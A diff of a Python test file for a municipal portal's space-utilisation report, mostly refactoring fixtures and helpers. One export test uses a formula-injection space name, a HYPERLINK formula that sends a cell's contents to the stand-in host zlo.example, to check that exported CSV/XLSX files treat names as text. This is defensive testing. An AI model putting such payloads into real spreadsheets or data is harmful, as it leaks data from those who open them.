@@ -15,12 +15,11 @@ from portal.bookings.models import BookingDate, BookingRequest
 from portal.communities.provisioning import (
     add_community_editor,
     ensure_municipal_editors,
-    provision_community,
 )
 from portal.events.models import DateChange
 from portal.stakeholders.models import Stakeholder
 from tests import builders
-from tests.builders import LJUBLJANA
+from tests.builders import at
 from tests.programme_helpers import programme
 
 pytestmark = pytest.mark.django_db
@@ -29,19 +28,8 @@ REPORT = "space_utilisation_report"
 FRI, SAT, SUN = 4, 5, 6
 
 
-def at(day, hour, minute=0):
-    return datetime.datetime.combine(day, datetime.time(hour, minute), tzinfo=LJUBLJANA)
-
-
 def may(day):
     return datetime.date(2026, 5, day)
-
-
-def provisioned(title):
-    ks = builders.community(title)
-    provision_community(ks)
-    ks.refresh_from_db()
-    return ks
 
 
 def calendar_of(ks):
@@ -75,16 +63,6 @@ def stakeholder(name, ks=None):
 
 
 @pytest.fixture
-def golnik():
-    return provisioned("KS Golnik")
-
-
-@pytest.fixture
-def strazisce():
-    return provisioned("KS Stražišče")
-
-
-@pytest.fixture
 def municipal():
     user = get_user_model().objects.create_user("obcina", password="x")
     user.groups.add(ensure_municipal_editors())
@@ -92,9 +70,9 @@ def municipal():
 
 
 @pytest.fixture
-def ks_editor(golnik):
+def ks_editor(golnik_provisioned):
     user = get_user_model().objects.create_user("ks-golnik", password="x")
-    add_community_editor(golnik, user)
+    add_community_editor(golnik_provisioned, user)
     return user
 
 
@@ -136,11 +114,11 @@ def figures(client, **params):
 
 
 @pytest.fixture
-def dom(golnik):
+def dom(golnik_provisioned):
     """Open on Fridays 17–20; in May 2026 the 1st (Labour Day) opens 9–11, the 15th only
     10–12 and the 22nd is closed: 2 + 3 + 2 + 0 + 3 = 10 hours open."""
     return builders.space_with_hours(
-        golnik,
+        golnik_provisioned,
         "Dom krajanov",
         weekly=[(FRI, "17:00", "20:00")],
         exceptions=[
@@ -152,12 +130,12 @@ def dom(golnik):
 
 
 @pytest.fixture
-def may_in_dom(golnik, dom):
+def may_in_dom(golnik_provisioned, dom):
     """What took Dom krajanov in May 2026, by the definitions of decision 0013."""
-    cal = calendar_of(golnik)
-    cafe = programme("Popravljalnica", "repair_cafe", community=golnik)
-    garden = programme("Skupnostni vrt", "community_garden", community=golnik)
-    society = stakeholder("Kulturno društvo Golnik", golnik)
+    cal = calendar_of(golnik_provisioned)
+    cafe = programme("Popravljalnica", "repair_cafe", community=golnik_provisioned)
+    garden = programme("Skupnostni vrt", "community_garden", community=golnik_provisioned)
+    society = stakeholder("Kulturno društvo Golnik", golnik_provisioned)
     # 8 May: an event 17–19 and a booking 18–20 by the same society, written otherwise:
     # 17–20 counts once, one organiser.
     held(cal, dom, "Popravljalnica maja", may(8), 17, 19, programme=cafe, organiser=society)
@@ -180,7 +158,7 @@ def may_in_dom(golnik, dom):
     # Saturday 16th 10–12, when the space is not open: 2 hours outside opening hours.
     held(cal, dom, "Sajenje", may(16), 10, 12, programme=garden, organiser=stakeholder("LUK"))
     # A cancelled event and a pending request take nothing.
-    energy = programme("Energetsko svetovanje", "energy_advice", community=golnik)
+    energy = programme("Energetsko svetovanje", "energy_advice", community=golnik_provisioned)
     held(cal, dom, "Odpovedano", may(29), 17, 20, programme=energy, status="cancelled")
     booking(dom, at(may(29), 19), at(may(29), 20), organisation="Čakajoči", approved=False)
     # Ana without an organisation, twice: one organiser; 29th 17–18 and 1st 9–10.
@@ -224,12 +202,16 @@ def test_the_page_shows_the_month_in_the_table_and_the_chart(client, municipal, 
     assert ">april 2026</text>" in chart and ">0,0 %</text>" in chart
 
 
-def test_a_month_in_which_the_clocks_change_has_its_true_length(client, municipal, golnik):
+def test_a_month_in_which_the_clocks_change_has_its_true_length(
+    client, municipal, golnik_provisioned
+):
     """Open all Sunday: 24 hours, but 23 on 29 March 2026, when clocks go forward; an event
     from 1.00 to 4.00 that night lasts two hours."""
-    space = builders.space_with_hours(golnik, "Nedeljski prostor", weekly=[(SUN, "00:00", "00:00")])
+    space = builders.space_with_hours(
+        golnik_provisioned, "Nedeljski prostor", weekly=[(SUN, "00:00", "00:00")]
+    )
     builders.event(
-        calendar_of(golnik),
+        calendar_of(golnik_provisioned),
         "Nočno opazovanje",
         start=at(datetime.date(2026, 3, 29), 1),
         end=at(datetime.date(2026, 3, 29), 4),
@@ -244,9 +226,9 @@ def test_a_month_in_which_the_clocks_change_has_its_true_length(client, municipa
 
 
 def test_use_of_a_space_without_opening_hours_is_counted_without_a_percentage(
-    client, municipal, golnik
+    client, municipal, golnik_provisioned
 ):
-    space = builders.space_with_hours(golnik, "Klet")
+    space = builders.space_with_hours(golnik_provisioned, "Klet")
     booking(space, at(may(6), 17), at(may(6), 19), organisation="Gasilci")
     client.force_login(municipal)
     row = figures(client, start="2026-05", end="2026-05")[("Klet", "2026-05")]
@@ -261,11 +243,15 @@ def test_use_of_a_space_without_opening_hours_is_counted_without_a_percentage(
 
 
 def test_a_booking_shown_as_an_event_counts_its_time_once_and_its_organiser(
-    client, municipal, golnik, dom
+    client, municipal, golnik_provisioned, dom
 ):
     request = booking(dom, at(may(8), 17), at(may(8), 19), organisation="Pevski zbor")
     request.event = builders.event(
-        calendar_of(golnik), "Koncert", start=at(may(8), 17), end=at(may(8), 19), space=dom
+        calendar_of(golnik_provisioned),
+        "Koncert",
+        start=at(may(8), 17),
+        end=at(may(8), 19),
+        space=dom,
     )
     request.save()
     client.force_login(municipal)
@@ -328,10 +314,14 @@ def test_an_anonymous_visitor_is_sent_to_log_in(client):
     assert response["Location"].startswith(reverse("wagtailadmin_login"))
 
 
-def test_a_ks_representative_sees_only_their_own_ks(client, golnik, strazisce, ks_editor):
-    builders.space_with_hours(golnik, "Dom krajanov Golnik", weekly=[(FRI, "17:00", "20:00")])
+def test_a_ks_representative_sees_only_their_own_ks(
+    client, golnik_provisioned, strazisce_provisioned, ks_editor
+):
+    builders.space_with_hours(
+        golnik_provisioned, "Dom krajanov Golnik", weekly=[(FRI, "17:00", "20:00")]
+    )
     foreign = builders.space_with_hours(
-        strazisce, "Prostor Stražišče", weekly=[(FRI, "17:00", "20:00")]
+        strazisce_provisioned, "Prostor Stražišče", weekly=[(FRI, "17:00", "20:00")]
     )
     client.force_login(ks_editor)
     html = report(client).content.decode()
@@ -342,7 +332,10 @@ def test_a_ks_representative_sees_only_their_own_ks(client, golnik, strazisce, k
         spaces = {row[1] for row in exported(client, export=export)[1:]}
         assert spaces == {"Dom krajanov Golnik"}
         # Another KS named in the address changes nothing.
-        spaces = {row[1] for row in exported(client, export=export, community=strazisce.pk)[1:]}
+        spaces = {
+            row[1]
+            for row in exported(client, export=export, community=strazisce_provisioned.pk)[1:]
+        }
         assert spaces == {"Dom krajanov Golnik"}
     refused = report(client, space=foreign.pk)
     assert refused.status_code == 400
@@ -361,23 +354,29 @@ def test_the_report_is_in_the_reports_menu_of_editors_only(client, ks_editor):
 
 
 def test_a_municipal_editor_sees_every_ks_and_may_narrow_to_one(
-    client, golnik, strazisce, municipal
+    client, golnik_provisioned, strazisce_provisioned, municipal
 ):
-    builders.space_with_hours(golnik, "Dom krajanov Golnik", weekly=[(FRI, "17:00", "20:00")])
-    builders.space_with_hours(strazisce, "Prostor Stražišče", weekly=[(FRI, "17:00", "20:00")])
+    builders.space_with_hours(
+        golnik_provisioned, "Dom krajanov Golnik", weekly=[(FRI, "17:00", "20:00")]
+    )
+    builders.space_with_hours(
+        strazisce_provisioned, "Prostor Stražišče", weekly=[(FRI, "17:00", "20:00")]
+    )
     client.force_login(municipal)
     assert {row[1] for row in exported(client)[1:]} == {"Dom krajanov Golnik", "Prostor Stražišče"}
-    narrowed = exported(client, community=strazisce.pk)
+    narrowed = exported(client, community=strazisce_provisioned.pk)
     assert {row[1] for row in narrowed[1:]} == {"Prostor Stražišče"}
     html = report(client).content.decode()
     assert html.count('class="usage-chart__bar"') == 0  # nothing used yet: no bars drawn
     assert html.count('class="usage-chart__label"') == 2
 
 
-def test_a_space_of_another_ks_than_the_one_chosen_is_refused(client, golnik, strazisce, municipal):
-    space = builders.space_with_hours(golnik, "Dom krajanov Golnik")
+def test_a_space_of_another_ks_than_the_one_chosen_is_refused(
+    client, golnik_provisioned, strazisce_provisioned, municipal
+):
+    space = builders.space_with_hours(golnik_provisioned, "Dom krajanov Golnik")
     client.force_login(municipal)
-    response = report(client, community=strazisce.pk, space=space.pk)
+    response = report(client, community=strazisce_provisioned.pk, space=space.pk)
     assert response.status_code == 400
     assert "Izbrani prostor ni v izbrani krajevni skupnosti." in response.content.decode()
 
@@ -460,7 +459,7 @@ def test_the_report_reads_a_constant_number_of_queries(
     client, municipal, django_assert_num_queries, communities, spaces, months
 ):
     for number in range(communities):
-        fill(provisioned(f"KS {number}"), spaces)
+        fill(builders.provisioned(f"KS {number}"), spaces)
     client.force_login(municipal)
     start = "2026-05" if months == 1 else "2025-01"
     end = "2026-05" if months == 1 else "2026-12"
@@ -474,11 +473,13 @@ def test_the_report_reads_a_constant_number_of_queries(
 
 
 @pytest.mark.parametrize("export", ["csv", "xlsx"])
-def test_names_typed_by_editors_reach_the_files_as_text(client, golnik, municipal, export):
+def test_names_typed_by_editors_reach_the_files_as_text(
+    client, golnik_provisioned, municipal, export
+):
     """A KS representative names a space; the municipal editor who opens the report's file
     must not run what the name says."""
     hostile = '=HYPERLINK("http://zlo.example/?"&A1;"Kliknite")'
-    builders.space_with_hours(golnik, hostile, weekly=[(FRI, "17:00", "20:00")])
+    builders.space_with_hours(golnik_provisioned, hostile, weekly=[(FRI, "17:00", "20:00")])
     client.force_login(municipal)
     params = {"start": "2026-04", "end": "2026-05"}
     heading, *rows = exported(client, export=export, **params)
